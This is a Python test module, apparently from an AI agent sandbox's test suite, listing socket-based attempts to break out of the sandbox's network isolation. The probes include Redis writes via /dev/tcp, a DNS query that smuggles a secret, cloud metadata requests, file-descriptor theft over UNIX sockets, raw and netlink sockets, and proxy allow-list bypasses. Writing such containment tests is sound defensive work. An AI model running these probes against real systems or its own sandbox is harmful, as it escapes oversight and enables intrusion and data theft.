"""Attacks by way of sockets: servers of the machine, other machines, the proxy and its doors."""

import socket
from functools import partial
from pathlib import Path

from agents.tools.base import Result
from tests.wall.attack import (
    BARE,
    OTHER_ANSWER,
    ROOT_OF_ITS_OWN,
    Attack,
    Control,
    Group,
    heard,
    prints,
    tells,
    worked,
)
from tests.wall.scene import Scene
from tests.wall.surroundings import redis_has

STARTUP = """
import socket, struct
body = struct.pack("!i", 196608) + b"user\\0postgres\\0database\\0postgres\\0\\0"
def greet(connection):
    connection.settimeout(5)
    connection.sendall(struct.pack("!i", len(body) + 4) + body)
    print("it answered", connection.recv(1))
"""
FETCH = """
import socket
def fetch(address, port):
    with socket.create_connection((address, port), 3) as connection:
        connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print(b"".join(iter(lambda: connection.recv(4096), b"")))
"""
TAKE = """
import socket
with socket.socket(socket.AF_UNIX) as connection:
    connection.connect({address})
    print(os.pread(socket.recv_fds(connection, 99, 1)[1][0], 99, 0))
"""
PROXY = """
import socket
DOOR = "/sakura/proxy.sock"
def through(door, target):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(door)
        connection.settimeout(5)
        connection.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
        said = connection.recv(4096)
        if b" 200 " in said:
            connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            said += b"".join(iter(lambda: connection.recv(4096), b""))
        print(target, said)
"""


def _stored(scene: Scene, result: Result) -> bool:
    return redis_has(scene)


def _to_a_stand_in(scene: Scene, attack: Attack) -> bool:
    """The same script reaches a server that is there."""
    scene.told |= {"metadata": "127.0.0.1", "metadata_port": scene.told["web_port"]}
    return attack.breach(scene, scene.outside(attack))


def _without_six() -> str:
    return "" if socket.has_ipv6 and Path("/proc/net/if_inet6").exists() else "it has no IPv6"


STAND_IN = Control("without the sandbox, to a stand-in on the loopback address", _to_a_stand_in)
_socket = partial(Attack, group=Group.SOCKETS, breach=tells, control=BARE, stopped_by="network namespace")
SOCKETS = (
    _socket(
        "A web server of the machine is asked", needs=("web",), script=FETCH + "fetch('127.0.0.1', scene['web_port'])"
    ),
    _socket(
        "A server of the machine is asked by IPv6",
        needs=("web_six",),
        script=FETCH + "fetch('::1', scene['six_port'])",
        absent=_without_six,
    ),
    _socket(
        "PostgreSQL is reached by TCP",
        needs=("databases",),
        script=STARTUP + "greet(socket.create_connection((scene['pg_host'], scene['pg_port']), 5))",
        breach=prints("it answered"),
    ),
    _socket(
        "PostgreSQL is reached by its UNIX socket",
        needs=("databases",),
        script=STARTUP + "to = socket.socket(socket.AF_UNIX); to.connect(scene['pg_socket']); greet(to)",
        breach=prints("it answered"),
        stopped_by="mount allow-list",
    ),
    _socket(
        "Redis is written to",
        needs=("databases",),
        language="bash",
        script="exec 9<>/dev/tcp/$redis_host/$redis_port\n"
        "printf 'SELECT %s\\r\\nSET %s 1\\r\\nQUIT\\r\\n' $redis_number $word >&9; cat <&9",
        breach=_stored,
    ),
    _socket(
        "A datagram is sent to the machine",
        needs=("datagrams",),
        script="import socket\nto = ('127.0.0.1', scene['udp_port'])\n"
        "socket.socket(type=socket.SOCK_DGRAM).sendto(scene['word'].encode(), to)",
        breach=heard,
    ),
    _socket(
        "A name server is asked for a name that carries a secret",
        needs=("datagrams",),
        script="""
import socket, struct
labels = [scene["word"], "example", "org"]
name = b"".join(bytes([len(each)]) + each.encode() for each in labels) + b"\\0"
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", scene["udp_port"]))
""",
        breach=heard,
    ),
    _socket(
        "The metadata address of a cloud is asked",
        needs=("web",),
        script=FETCH + "fetch(scene['metadata'], scene['metadata_port'])",
        control=STAND_IN,
    ),
    _socket(
        "An abstract socket of the machine hands out an open file",
        needs=("unix",),
        script=TAKE.format(address='"\\0" + scene["abstract"]'),
    ),
    _socket(
        "A socket in a folder open to all hands out an open file",
        needs=("unix",),
        script=TAKE.format(address='scene["path_socket"]'),
        stopped_by="mount allow-list",
    ),
    _socket(
        "A raw socket is made",
        script="import socket\ntried('socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))",
        breach=worked,
        control=ROOT_OF_ITS_OWN,
        stopped_by="no capabilities",
    ),
    _socket(
        "A packet socket is made",
        script="import socket\ntried('socket', lambda: socket.socket(17, socket.SOCK_RAW, 0x300))",
        breach=worked,
        control=ROOT_OF_ITS_OWN,
        stopped_by="filter, no capabilities",
    ),
    *(
        _socket(
            f"A socket {of} is made",
            script=f"import socket\ntried('socket', lambda: socket.socket({family}, {kind}))",
            breach=worked,
            control=OTHER_ANSWER,
            stopped_by="filter",
        )
        for of, family, kind in (
            ("to the host of a virtual machine", 40, 1),
            ("of the kernel's ciphers", 38, 5),
            ("of Bluetooth", 31, 3),
            ("of express data paths", 44, 3),
        )
    ),
    _socket(
        "The network is set up anew by netlink",
        script="""
import socket, struct
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
    link.bind((0, 0))
    link.send(struct.pack("=IHHIIBxHiII", 32, 16, 5, 1, 0, 0, 0, 1, 1, 1))  # RTM_NEWLINK, acknowledged: lo up
    print("link", "worked" if struct.unpack_from("=i", link.recv(4096), 16)[0] == 0 else "refused")
""",
        breach=worked,
        control=ROOT_OF_ITS_OWN,
        stopped_by="no capabilities",
    ),
    _socket(
        "A socket is made by io_uring",
        script="call('io_uring_setup', 8, ctypes.create_string_buffer(120))",
        breach=worked,
        stopped_by="filter",
        absent=lambda: "" if _io_uring() == "0" else "the kernel gives io_uring to nobody",
    ),
    _socket(
        "The proxy is asked for the loopback address, in every spelling of it",
        needs=("web", "allowed_loopback"),
        script=PROXY
        + FETCH
        + """
if os.path.exists(DOOR):
    for target in scene["targets"]:
        through(DOOR, target)
else:
    fetch("127.0.0.1", scene["web_port"])
""",
        stopped_by="proxy",
    ),
    _socket(
        "The proxy is asked for what is not on the list",
        needs=("web", "other_door"),
        script=PROXY
        + FETCH
        + """
if os.path.exists(DOOR):
    through(DOOR, f"127.0.0.1:{scene['web_port']}")
else:
    fetch("127.0.0.1", scene["web_port"])
""",
        stopped_by="proxy",
    ),
    _socket(
        "The door of another command is used",
        needs=("other_door",),
        script=PROXY + "os.chdir(scene['door']); through('proxy.sock', 'example.org:443x')",
        breach=prints("400 Bad Request"),
        stopped_by="mount allow-list",
    ),
)


def _io_uring() -> str:
    try:
        return Path("/proc/sys/kernel/io_uring_disabled").read_text().strip()
    except OSError:
        return "0"
